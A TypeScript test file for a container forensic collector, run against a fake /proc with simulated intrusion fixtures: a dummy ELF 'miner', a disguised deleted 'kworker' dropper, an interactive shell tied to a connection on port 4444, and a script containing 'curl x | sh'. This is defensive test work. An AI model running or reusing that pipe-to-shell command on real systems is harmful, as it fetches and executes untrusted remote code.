import { createHash } from 'node:crypto';
import { chmod, mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { collectLive, type LiveOptions } from '../../../src/live/live-collector.js';
import { json, makeProc, netLine, runAndDecode, type Decoded, type FakeProcess } from './fake-proc.js';

const ID = '0123456789abcdef0123456789abcdef';
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(100, 0x41)]);
const sha = (b: Buffer | string): string => createHash('sha256').update(b).digest('hex');

let tmp: string;
let proc: string;
let fsRoot: string;

/** The container's view is the real '/', so container paths are the real paths under `tmp`. */
async function buildTree(): Promise<void> {
  const t = path.join(fsRoot, 'tmp');
  await mkdir(path.join(t, 'sub'), { recursive: true });
  await mkdir(path.join(t, '.x'));
  await mkdir(path.join(fsRoot, 'dev', 'shm'), { recursive: true });
  await writeFile(path.join(t, 'miner'), ELF, { mode: 0o755 });
  await writeFile(path.join(t, 'run.sh'), '#!/bin/sh\ncurl x | sh\n', { mode: 0o644 });
  await writeFile(path.join(t, 'big.bin'), Buffer.concat([ELF, Buffer.alloc(5000)]), { mode: 0o755 });
  await writeFile(path.join(t, 'suid'), 'not elf', { mode: 0o755 });
  await chmod(path.join(t, 'suid'), 0o4755);
  await writeFile(path.join(t, 'notes.txt'), 'hello', { mode: 0o644 });
  await writeFile(path.join(t, 'sub', 'deep.sh'), '#!/bin/bash\n', { mode: 0o700 });
  await writeFile(path.join(t, '.x', 'kworker (deleted)'), ELF, { mode: 0o755 });
  await writeFile(Buffer.concat([Buffer.from(path.join(t, 'bad')), Buffer.from([0xff, 0xfe])]), 'x');
  await symlink('/etc/passwd', path.join(t, 'escape'));
  await symlink('/etc', path.join(t, 'linkdir'));
  await symlink('/etc', path.join(fsRoot, 'varlink'));
}

function processes(): FakeProcess[] {
  const c = `0::/kubepods/pod1/${ID}\n`;
  const dropper = path.join(fsRoot, 'tmp', '.x', 'kworker (deleted)');
  const tcp =
    netLine(0, '00000000:1F90', '00000000:0000', '0A', 1001) +
    netLine(1, '00000000:7A69', '00000000:0000', '0A', 1003) +
    netLine(2, '0100007F:17AC', '00000000:0000', '0A', 1004) +
    netLine(3, '0500580A:9C40', '097100CB:115C', '01', 1005) +
    netLine(4, '0500580A:9C41', '0100600A:01BB', '01', 1002);
  const tcp6 = netLine(0, '0000000000000000FFFF00000500580A:9C42', '0000000000000000FFFF00000764336C:01BB', '01', 1006);
  const udp = netLine(0, '00000000:0035', '00000000:0000', '07', 1007) + netLine(1, '00000000:270F', '00000000:0000', '07', 1008);
  return [
    {
      pid: 1, ppid: 0, comm: 'app', startTicks: 100, cgroup: c, mnt: 'mnt:[A]', exe: '/usr/bin/app', root: '/',
      cmdline: ['/usr/bin/app', '--port', '8080'], environ: ['TOKEN=s3cret', 'HOME=/'],
      fds: { 0: '/dev/null', 3: 'socket:[1001]' }, net: { tcp, tcp6, udp },
      maps: '55d0-55e0 r-xp 00000000 08:01 12 /usr/bin/app\n7ffd-7ffe r-xp 00000000 00:00 0 [vdso]\n',
      mountinfo: '1250 1180 0:210 / / rw - overlay overlay rw,upperdir=/u,workdir=/w\n',
    },
    {
      pid: 7, ppid: 1, comm: 'x) S 1 (y', startTicks: 200, cgroup: c, mnt: 'mnt:[A]', exe: dropper,
      cmdline: ['kworker'], fds: { 5: 'socket:[1003]', 6: 'socket:[1005]', 7: `${dropper}` },
      maps: `7f00-7f10 rwxp 00000000 00:00 0 \n7f20-7f30 r-xp 00000000 08:01 9 ${dropper}\n`,
    },
    { pid: 8, ppid: 0, comm: 'sh', startTicks: 300, cgroup: c, mnt: 'mnt:[A]', exe: dropper, cmdline: ['sh', '-i'], fds: { 9: 'socket:[1006]' } },
    { pid: 20, ppid: 0, comm: 'envoy', startTicks: 50, cgroup: '0::/kubepods/pod1/sidecar\n', mnt: 'mnt:[B]', exe: '/envoy', fds: { 4: 'socket:[1002]', 5: 'socket:[1005]' } },
    { pid: 30, ppid: 0, comm: 'node', startTicks: 900, cgroup: '0::/kubepods/pod1/debug\n', mnt: 'mnt:[SELF]', exe: '/usr/bin/node' },
    { pid: 40, ppid: 1, comm: 'worker', startTicks: 400, cgroup: c, mnt: 'mnt:[A]', exe: '/usr/bin/app', missing: ['environ'] },
  ];
}

function options(over: Partial<LiveOptions> = {}): LiveOptions {
  return {
    containerId: ID,
    paths: [path.join(fsRoot, 'tmp'), path.join(fsRoot, 'var', 'tmp'), path.join(fsRoot, 'dev', 'shm'), path.join(fsRoot, 'varlink')],
    maxFileBytes: 1000,
    redactEnvironment: false,
    declaredPorts: [{ proto: 'tcp', port: 8080 }, { proto: 'udp', port: 53 }],
    clusterCidrs: ['10.88.0.0/16', '10.96.0.0/16'],
    proc,
    maxHashBytes: 1 << 20,
    walkSeconds: 60,
    memoryScope: 'Suspicious',
    memoryMaxBytes: 1 << 20,
    ...over,
  };
}

beforeEach(async () => {
  tmp = await mkdtemp(path.join(os.tmpdir(), 'casefile-live-'));
  proc = path.join(tmp, 'proc');
  fsRoot = path.join(tmp, 'fs');
  await buildTree();
  await makeProc(proc, processes(), { selfMnt: 'mnt:[SELF]' });
});

afterEach(async () => {
  await rm(tmp, { recursive: true, force: true });
});

describe('live collector on a fake /proc', () => {
  let d: Decoded;
  beforeEach(async () => {
    d = await runAndDecode((w) => collectLive(options(), w));
  });

  it('emits artifacts in order of volatility and ends with done', () => {
    const fixed = d.order.filter((n) => !n.startsWith('live/files/') && !n.startsWith('live/recovered/'));
    expect(fixed).toEqual([
      'live/processes.json', 'live/raw/processes.txt', 'live/memory/7/regions.json', 'live/fds.json', 'live/sockets.json',
      'live/raw/net-tcp.txt', 'live/raw/net-tcp6.txt', 'live/raw/net-udp.txt', 'live/raw/net-udp6.txt',
      'live/maps.txt', 'live/maps.json', 'live/mountinfo.txt', 'live/recovered.json', 'live/findings.json', 'live/files.json', 'live/indicators.json', 'live/file-findings.json',
    ]);
    expect(d.order.indexOf('live/recovered/7-exe')).toBeLessThan(d.order.indexOf('live/recovered.json'));
    expect(d.order.indexOf('live/files.json')).toBeLessThan(d.order.indexOf(`live/files/${path.join(fsRoot, 'tmp', 'miner').slice(1)}`));
    expect(d.frames[d.frames.length - 1]!.t).toBe('done');
  });

  it('classifies processes, finds the entrypoint tree and parses the comm', () => {
    const p = json(d, 'live/processes.json');
    expect(p).toMatchObject({ containerId: ID, entrypointPid: 1, bootTime: '2023-11-14T22:13:20.000Z' });
    const by = Object.fromEntries(p.processes.map((x: any) => [x.pid, x]));
    expect(Object.fromEntries(p.processes.map((x: any) => [x.pid, x.role]))).toEqual({ 1: 'target', 7: 'target', 8: 'target', 20: 'other', 30: 'observer', 40: 'target' });
    expect(by[7]).toMatchObject({ name: 'x) S 1 (y', ppid: 1, inEntrypointTree: true, exeDeleted: true, startTime: '2023-11-14T22:13:22.000Z' });
    expect(by[8].inEntrypointTree).toBe(false);
    expect(by[1]).toMatchObject({ cmdline: ['/usr/bin/app', '--port', '8080'], environment: ['TOKEN=s3cret', 'HOME=/'], uid: { real: 0, effective: 0, saved: 0, fs: 0 } });
    expect(by[1].namespaces).toMatchObject({ mnt: 'mnt:[A]', net: 'net:[4026531300]' });
    expect(by[40].environment).toBeNull();
    expect(by[40].errors).toEqual([expect.stringMatching(/cannot read .*40\/environ: ENOENT/)]);
    expect(d.notes).toContainEqual({ level: 'warn', message: expect.stringMatching(/40\/environ: ENOENT/) });
    const raw = d.artifacts.get('live/raw/processes.txt')!.toString();
    expect(raw).toContain(`==> ${path.join(proc, '1', 'cmdline')} <==\n/usr/bin/app --port 8080 \n`);
    expect(raw).toContain(`==> ${path.join(proc, '7', 'stat')} <==\n7 (x) S 1 (y) S 1`);
  });

  it('lists fds of targets only and decodes sockets with their owners', () => {
    const fds = json(d, 'live/fds.json');
    expect(fds.map((x: any) => x.pid)).toEqual([1, 7, 8, 40]);
    expect(fds[0].fds).toEqual([{ fd: 0, target: '/dev/null' }, { fd: 3, target: 'socket:[1001]' }]);
    const s = json(d, 'live/sockets.json');
    expect(s.netNamespaceOf).toBe(1);
    const by = Object.fromEntries(s.sockets.map((x: any) => [x.inode, x]));
    expect(by[1001]).toMatchObject({ proto: 'tcp', state: 'LISTEN', local: { address: '0.0.0.0', port: 8080 }, owners: [{ pid: 1, fd: 3, name: 'app', role: 'target' }] });
    expect(by[1005]).toMatchObject({ state: 'ESTABLISHED', remote: { address: '203.0.113.9', port: 4444 } });
    expect(by[1005].owners.map((o: any) => [o.pid, o.role])).toEqual([[7, 'target'], [20, 'other']]);
    expect(by[1006]).toMatchObject({ proto: 'tcp6', remote: { address: '::ffff:108.51.100.7', port: 443 } });
    expect(by[1007]).toMatchObject({ proto: 'udp', state: 'CLOSE', local: { port: 53 } });
    expect(d.artifacts.get('live/raw/net-tcp.txt')!.toString()).toContain('0500580A:9C40');
    expect(d.notes).toContainEqual({ level: 'info', message: expect.stringMatching(/net\/udp6: ENOENT/) });
  });

  it('keeps raw maps and the suspicious regions', () => {
    expect(d.artifacts.get('live/maps.txt')!.toString()).toContain(`==> ${path.join(proc, '7', 'maps')} <==\n7f00-7f10 rwxp`);
    expect(json(d, 'live/maps.json')).toEqual([
      { pid: 7, regions: [
        { range: '7f00-7f10', perms: 'rwxp', path: '', reason: 'rwx' },
        { range: '7f20-7f30', perms: 'r-xp', path: path.join(fsRoot, 'tmp', '.x', 'kworker (deleted)'), reason: 'deleted-file-executable' },
      ] },
    ]);
    expect(d.artifacts.get('live/mountinfo.txt')!.toString()).toContain('overlay');
  });

  it('recovers a deleted executable once for all its processes', () => {
    expect(d.order.filter((n) => n.startsWith('live/recovered/'))).toEqual(['live/recovered/7-exe']);
    expect(d.artifacts.get('live/recovered/7-exe')).toEqual(ELF);
    const r = json(d, 'live/recovered.json');
    expect(r.map((x: any) => [x.pid, x.sha256, x.bytes, x.copied])).toEqual([
      [7, sha(ELF), ELF.length, 'live/recovered/7-exe'],
      [8, sha(ELF), ELF.length, 'live/recovered/7-exe'],
    ]);
  });

  it('walks writable paths without following symlinks and copies suspicious files', () => {
    const t = path.join(fsRoot, 'tmp');
    const files = json(d, 'live/files.json');
    const by = Object.fromEntries(files.map((f: any) => [f.path, f]));
    expect(by[t]).toMatchObject({ type: 'dir' });
    expect(by[`${t}/miner`]).toMatchObject({ type: 'file', mode: '0755', elf: true, script: false, executable: true, sha256: sha(ELF), copied: `live/files/${t.slice(1)}/miner` });
    expect(by[`${t}/run.sh`]).toMatchObject({ script: true, executable: false, copied: `live/files/${t.slice(1)}/run.sh` });
    expect(by[`${t}/big.bin`]).toMatchObject({ elf: true, copied: null, note: expect.stringMatching(/over --max-file-bytes 1000/) });
    expect(by[`${t}/big.bin`].sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(by[`${t}/suid`]).toMatchObject({ setuid: true, mode: '4755', copied: expect.any(String) });
    expect(by[`${t}/notes.txt`]).toMatchObject({ copied: null, elf: false, script: false });
    // Both times, for the report's timeline: a ctime after the mtime shows a chmod or an mtime set back.
    expect(by[`${t}/notes.txt`]).toMatchObject({ mtime: expect.stringMatching(/^\d{4}-\d\d-\d\dT/), ctime: expect.stringMatching(/^\d{4}-\d\d-\d\dT/) });
    expect(by[`${t}/sub/deep.sh`]).toMatchObject({ script: true, executable: true });
    expect(by[`${t}/escape`]).toMatchObject({ type: 'symlink', linkTarget: '/etc/passwd', sha256: null });
    expect(by[`${t}/linkdir`]).toMatchObject({ type: 'symlink', linkTarget: '/etc' });
    expect(files.some((f: any) => f.path.startsWith(`${t}/linkdir/`))).toBe(false);
    const bad = files.find((f: any) => f.pathHex !== undefined);
    expect(Buffer.from(bad.pathHex, 'hex')).toEqual(Buffer.concat([Buffer.from(`${t}/bad`), Buffer.from([0xff, 0xfe])]));
    expect(by[path.join(fsRoot, 'varlink')]).toMatchObject({ type: 'symlink', linkTarget: '/etc' });
    expect(d.artifacts.get(`live/files/${t.slice(1)}/miner`)).toEqual(ELF);
    expect(d.artifacts.get(`live/files/${t.slice(1)}/run.sh`)!.toString()).toBe('#!/bin/sh\ncurl x | sh\n');
    expect(d.artifacts.has(`live/files/${t.slice(1)}/notes.txt`)).toBe(false);
    expect(d.artifacts.has(`live/files/${t.slice(1)}/big.bin`)).toBe(false);
    expect(d.artifacts.get(`live/files/${t.slice(1)}/.x/kworker%20%28deleted%29`.replace('/.x/', '/%2Ex/'))).toEqual(ELF);
    const messages = d.notes.map((n) => n.message);
    expect(messages).toContain(`${path.join(fsRoot, 'var', 'tmp')} does not exist in the target`);
    expect(messages).toContain(`no files under ${path.join(fsRoot, 'dev', 'shm')}`);
    expect(messages).toContainEqual(expect.stringMatching(/varlink is a symlink in the target, not a directory: listed, not followed/));
  });

  it('reports each kind of finding, most severe first', () => {
    const f = [...json(d, 'live/findings.json'), ...json(d, 'live/file-findings.json')];
    const kinds = (k: string): any[] => f.filter((x: any) => x.kind === k);
    expect(kinds('executable-in-writable-path').map((x) => x.pid)).toEqual([7, 8]);
    expect(kinds('executable-in-writable-path')[0]).toMatchObject({ severity: 'critical', artifact: 'live/processes.json' });
    expect(kinds('executable-in-writable-path')[0].summary).toMatch(/pid 7 \(kworker\) runs .*kworker \(deleted\).*writable path/);
    expect(kinds('deleted-executable-running').map((x) => x.pid)).toEqual([7, 8]);
    expect(kinds('process-outside-entrypoint-tree').map((x) => x.pid)).toEqual([8]);
    const ext = kinds('external-connection');
    expect(ext.map((x) => x.summary)).toEqual([
      expect.stringMatching(/10\.88\.0\.5:40000 -> 203\.0\.113\.9:4444 is ESTABLISHED.*pid 7 \(x\) S 1 \(y, target\), pid 20 \(envoy, other\)/),
      expect.stringMatching(/\[::ffff:10\.88\.0\.5\]:40002 -> \[::ffff:108\.51\.100\.7\]:443.*pid 8 \(sh, target\)/),
    ]);
    const listeners = kinds('undeclared-listener');
    expect(listeners.map((x) => [x.severity, x.summary.match(/port (\d+)/)[1]])).toEqual([['medium', '31337'], ['medium', '9999'], ['low', '6060']]);
    expect(listeners[2].summary).toMatch(/loopback only/);
    expect(kinds('setuid-file-in-writable-path')).toHaveLength(1);
    const wem = kinds('writable-executable-memory');
    expect(wem).toEqual([expect.objectContaining({ pid: 7, severity: 'high', artifact: 'live/maps.json' })]);
    expect(wem[0].summary).toMatch(/JIT/);
    const dropped = kinds('dropped-file').map((x) => path.basename(x.summary.split(' ')[0]));
    expect(dropped.sort()).toEqual(['big.bin', 'deep.sh', 'kworker', 'miner', 'run.sh', 'suid'].sort());
    const rank = { critical: 0, high: 1, medium: 2, low: 3 } as Record<string, number>;
    for (const artifact of ['live/findings.json', 'live/file-findings.json']) {
      const ranks = json(d, artifact).map((x: any) => rank[x.severity]);
      expect(ranks).toEqual([...ranks].sort((a: number, b: number) => a - b));
    }
  });

  it('summarises the counts', () => {
    expect(d.summary).toMatchObject({ processes: 6, targetProcesses: 4, sockets: 8, recovered: 1, findings: json(d, 'live/findings.json').length + json(d, 'live/file-findings.json').length });
    expect(d.summary!.files).toBe(json(d, 'live/files.json').length);
    expect(d.summary!.copied).toBe(d.order.filter((n) => n.startsWith('live/files/') || n.startsWith('live/recovered/')).length);
    expect(d.summary!.notes).toBe(d.notes.length);
  });
});

describe('live collector options', () => {
  it('redacts the environment to hashes', async () => {
    const d = await runAndDecode((w) => collectLive(options({ redactEnvironment: true }), w));
    const p = json(d, 'live/processes.json').processes.find((x: any) => x.pid === 1);
    expect(p.environment).toEqual({ redacted: true, sha256: [`TOKEN=sha256:${sha('s3cret')}`, `HOME=sha256:${sha('/')}`] });
    expect(d.artifacts.get('live/processes.json')!.toString()).not.toContain('s3cret');
  });

  it('hashes but does not copy a deleted executable over the size cap', async () => {
    const d = await runAndDecode((w) => collectLive(options({ maxFileBytes: 10 }), w));
    expect(d.order.some((n) => n.startsWith('live/recovered/'))).toBe(false);
    expect(json(d, 'live/recovered.json')[0]).toMatchObject({ pid: 7, sha256: sha(ELF), bytes: ELF.length, copied: null });
    expect(d.notes.map((n) => n.message)).toContainEqual(expect.stringMatching(/over --max-file-bytes 10: hashed/));
  });

  it('stops the walk at the entry cap with a note', async () => {
    const d = await runAndDecode((w) => collectLive({ ...options(), maxEntries: 3 }, w));
    expect(json(d, 'live/files.json')).toHaveLength(3);
    expect(d.notes.map((n) => n.message)).toContainEqual(expect.stringMatching(/stops at 3 entries/));
  });

  it('falls back to the mount namespace when no cgroup names the container', async () => {
    const d = await runAndDecode((w) => collectLive(options({ containerId: 'feedfacefeedface' }), w));
    const p = json(d, 'live/processes.json');
    expect(p).toMatchObject({ classification: 'mount-namespace', entrypointPid: 1 });
    expect(p.processes.filter((x: any) => x.role === 'target').map((x: any) => x.pid)).toEqual([1, 7, 8, 40]);
    expect(d.notes.map((n) => n.message)).toContainEqual(expect.stringMatching(/targets chosen by mount namespace/));
  });
});
